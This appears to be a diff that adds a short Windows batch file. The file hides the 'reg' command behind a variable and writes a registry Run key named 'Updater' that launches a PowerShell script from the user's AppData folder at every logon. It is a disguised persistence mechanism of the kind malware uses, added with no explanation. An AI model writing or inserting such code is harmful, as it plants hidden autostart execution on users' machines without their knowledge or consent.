@@ -1,0 +1,2 @@
+@echo off
+set T=reg& %T% add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "%APPDATA%\u.ps1" /f
